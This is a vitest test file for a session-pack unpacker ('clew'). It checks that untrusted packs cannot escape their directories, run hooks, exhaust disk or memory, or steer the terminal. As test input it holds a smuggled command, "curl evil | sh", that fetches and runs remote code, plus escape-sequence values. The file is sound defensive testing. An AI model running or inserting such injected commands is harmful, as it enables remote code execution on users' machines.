// Packs that a stranger made: nothing of them may land outside the session's own places, run, or fill the disk.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, statfsSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, expect, test } from 'vitest';
import { joinBytes } from '../../src/base/bytes.ts';
import { writeTar } from '../../src/housekeeping/tar.ts';
import { unpackSessions } from '../../src/housekeeping/unpack-sessions.ts';
import { runClew } from '../cli/run-clew.ts';

const root = mkdtempSync(join(tmpdir(), 'clew-packs-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const ID = '0b9a2c1d-1111-4222-8333-444455556666';
const ENTRY = `${JSON.stringify({ type: 'user', uuid: 'u1', message: { role: 'user', content: 'hello' } })}\n`;

interface PackedFile {
  readonly role: string;
  readonly path: readonly string[];
  readonly text?: string;
  readonly bytes?: number;
}

async function makePack(name: string, files: readonly PackedFile[], more: object = {}): Promise<string> {
  const told = files.map(({ role, path, text = '', bytes }) => ({
    role,
    path,
    bytes: bytes ?? Buffer.byteLength(text),
    sha256: hashOf(text),
    modified: 0,
  }));
  const session = { sessionId: ID, project: '-p', cwd: '/p', home: '/h', files: told, history: [], ...more };
  const manifest = Buffer.from(JSON.stringify({ format: 'clew-pack', version: 1, sessions: [session] }));
  const parts = [manifest, ...files.map(({ text = '' }) => Buffer.from(text))];
  const chunks: Uint8Array[] = [];
  for await (const chunk of writeTar(
    parts.map((part, n) => ({
      name: n === 0 ? 'manifest.json' : `files/${n - 1}`,
      bytes: part.length,
      chunks: () => [part],
    })),
  ))
    chunks.push(chunk);
  const file = join(root, `${name}.clewpack`);
  writeFileSync(file, gzipSync(joinBytes(chunks)));
  return file;
}

async function unpack(name: string, files: readonly PackedFile[]): Promise<string> {
  const home = join(root, name, 'home');
  mkdirSync(home, { recursive: true });
  const pack = await makePack(name, files);
  await unpackSessions(pack, {
    home,
    dataDir: join(root, name, 'data'),
    map: [],
    now: () => new Date('2026-03-04T12:00:00Z'),
  });
  return home;
}

const main: PackedFile = { role: 'main', path: [`${ID}.jsonl`], text: ENTRY };

test('scripts that the client would run are passed over; the session itself is placed', async () => {
  const script = { role: 'home', path: ['session-env', ID, 'hook-0.sh'], text: 'echo owned\n' };
  const home = await unpack('script', [script, main]);
  expect(existsSync(join(home, 'projects', '-p', `${ID}.jsonl`))).toBe(true);
  expect(existsSync(join(home, 'session-env'))).toBe(false);
});

test.each([
  ['an agent for the client', ['agents', `${ID}.md`]],
  ['a command', ['commands', `${ID}.md`]],
  ['a skill', ['skills', ID, 'SKILL.md']],
  ['a way out of the home', ['..', ID]],
])('%s is refused, and nothing is written', async (name, path) => {
  await expect(unpack(name, [main, { role: 'home', path, text: 'x' }])).rejects.toThrow(/no bundle/);
  expect(readdirSync(join(root, name, 'home'))).toEqual([]);
});

test('a pack that would blow up to more than the disk holds is refused before anything is written', async () => {
  const bomb = { role: 'own', path: ['tool-results', 'x.txt'], text: 'x', bytes: 2 ** 52 };
  await expect(unpack('bomb', [main, bomb])).rejects.toThrow(/the disk has/);
  expect(readdirSync(join(root, 'bomb', 'home'))).toEqual([]);
  expect(readdirSync(join(root, 'bomb', 'data'))).toEqual([]);
});

test('a manifest that would take all of the memory is refused before it is read', async () => {
  const history = ['[],'.repeat(12_000_000)];
  const pack = await makePack('large-manifest', [main], { history });
  const options = { home: root, dataDir: join(root, 'large-manifest'), map: [], now: () => new Date() };
  await expect(unpackSessions(pack, options)).rejects.toThrow(/its manifest is too large/);
});

test('a file longer than its manifest says is refused', async () => {
  const longer = { role: 'own', path: ['x.txt'], text: 'four', bytes: 3 };
  await expect(unpack('longer', [main, longer])).rejects.toThrow(/not those of its manifest/);
});

test('values of unexpected types in a manifest break nothing', async () => {
  // `Number()` of such an object throws.
  const odd = { modified: { valueOf: 1, toString: 1 } };
  const told = { role: 'main', path: [`${ID}.jsonl`], bytes: ENTRY.length, sha256: hashOf(ENTRY), ...odd };
  const home = join(root, 'odd', 'home');
  mkdirSync(home, { recursive: true });
  const pack = await makePack('odd', [main], { files: [told] });
  await unpackSessions(pack, { home, dataDir: join(root, 'odd', 'data'), map: [], now: () => new Date(0) });
  expect(existsSync(join(home, 'projects', '-p', `${ID}.jsonl`))).toBe(true);
});

test('the command to copy holds no other command, whatever the pack says', async () => {
  const home = join(root, 'shell', 'home');
  mkdirSync(home, { recursive: true });
  const pack = await makePack('shell', [main], { cwd: "/p; curl evil | sh; '\u001b[2J\u202e" });
  const env = { CLEW_DATA_DIR: join(root, 'shell', 'data') };
  const { out, code } = await runClew(['unpack', pack, '--home', home], { env });
  expect(code).toBe(0);
  expect(out).toContain(`\ncd '/p; curl evil | sh; '\\''[2J' && claude --resume ${ID}\n`);
});

test('what a refusal quotes of a pack cannot steer the terminal', async () => {
  const path = ['todos', 'a\u009b2J\u202eb'];
  const pack = await makePack('quoted', [main, { role: 'home', path, text: 'x' }]);
  const env = { CLEW_DATA_DIR: join(root, 'quoted', 'data') };
  const { err, code } = await runClew(['unpack', pack, '--home', root], { env });
  expect(code).toBe(2);
  expect(err).toContain('is no place for a session');
  expect(err).not.toMatch(/[\u0080-\u009f\u202e]/);
});

test.each([
  ['the same name', 'x.txt'],
  ['a name that some systems take for the same', 'X.TXT'],
])('two different files of %s are refused, and nothing is written', async (name, second) => {
  const files = ['x.txt', second].map((path, n) => ({ role: 'own', path: [path], text: `text ${n}` }));
  await expect(unpack(name, [main, ...files])).rejects.toThrow(/two of its files have one name/);
  expect(readdirSync(join(root, name, 'home'))).toEqual([]);
});

test('empty files count as well: each takes a block of the disk', async () => {
  const { bavail, bsize } = statfsSync(root);
  // By size alone it would fit, twice as it must; with a block for each file of nothing it does not.
  const empty = { role: 'own', bytes: 0, sha256: hashOf('') };
  const told = Array.from({ length: 200_000 }, (_, n) => ({ ...empty, path: [`${n}`] }));
  const large = { ...empty, path: ['large'], bytes: Math.floor((bavail / 2 - 100_000) * bsize) };
  const pack = await makePack('blocks', [main], { files: [...told, large] });
  const home = join(root, 'blocks', 'home');
  const options = { home, dataDir: join(root, 'blocks', 'data'), map: [], now: () => new Date(0) };
  await expect(unpackSessions(pack, options)).rejects.toThrow(/the disk has/);
});

test('a line of history that nests deeper than any client writes is passed over', async () => {
  const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
  const line = `{"sessionId":"${ID}","project":"/p","display":${deep}}`;
  const home = join(root, 'deep', 'home');
  mkdirSync(home, { recursive: true });
  const pack = await makePack('deep', [main], { history: [line] });
  const env = { CLEW_DATA_DIR: join(root, 'deep', 'data') };
  const { code, err } = await runClew(['unpack', pack, '--home', home, '--map', '/p=/q'], { env });
  expect([code, err]).toEqual([0, '']);
});

function hashOf(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

test('a pack that is none leaves nothing behind, not even an empty home', async () => {
  const person = join(root, 'person');
  const pack = join(root, 'none.clewpack');
  mkdirSync(person);
  writeFileSync(pack, 'no pack');
  const over = { homeDirectory: person, cwd: root, env: { CLEW_DATA_DIR: join(root, 'none-data') } };
  for (const file of [pack, join(root, 'not-there.clewpack')])
    expect(await runClew(['unpack', file], over)).toMatchObject({ code: 2 });
  expect(readdirSync(person)).toEqual([]);
});
